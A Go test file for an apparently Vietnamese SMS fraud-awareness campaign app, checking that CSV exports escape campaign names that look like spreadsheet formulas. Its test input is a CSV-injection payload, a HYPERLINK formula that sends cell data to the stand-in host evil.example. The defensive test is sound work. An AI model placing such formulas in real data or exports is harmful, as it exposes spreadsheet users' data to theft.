package web_test

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/canhgiac/canhgiac/internal/access"
	"github.com/canhgiac/canhgiac/internal/audience"
	"github.com/canhgiac/canhgiac/internal/testutil"
)

// A campaign named like a spreadsheet formula downloads as text: the cell
// starts with a single quote, in the figures and in the recipients' list.
func TestCampaignCSV_FormulasAreEscaped(t *testing.T) {
	e := testutil.Start(t, "")
	sys := access.With(context.Background(), access.System())
	if _, err := e.App.Audience.Subscribe(sys, audience.Input{Phone: "0918000001", Province: "Cao Bằng", Consent: true}); err != nil {
		t.Fatal(err)
	}
	coord := e.NewClient(t)
	coord.Login("thuongtruc", e.Passwords["thuongtruc"])
	coord.Get("/quan-tri/chien-dich")
	name := `=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")`
	r := coord.Post("/quan-tri/chien-dich", url.Values{"name": {name}, "channel": {"sms"}, "text": {"Canh giac lua dao qua dien thoai."}, "action": {"create"}})
	if r.Status != http.StatusSeeOther {
		t.Fatalf("prepare: %d %.500s", r.Status, r.Body)
	}
	stats := coord.Get(r.Location + "/so-lieu.csv")
	if stats.Status != 200 || !strings.Contains(stats.Body, `"'=HYPERLINK(`) || strings.Contains(stats.Body, `,"=HYPERLINK(`) {
		t.Fatalf("so-lieu.csv: %d %s", stats.Status, stats.Body)
	}
	if list := coord.Get(r.Location + "/tin-nhan.csv"); list.Status != 200 || !strings.Contains(list.Body, "STT") {
		t.Fatalf("tin-nhan.csv: %d %s", list.Status, list.Body)
	}
}
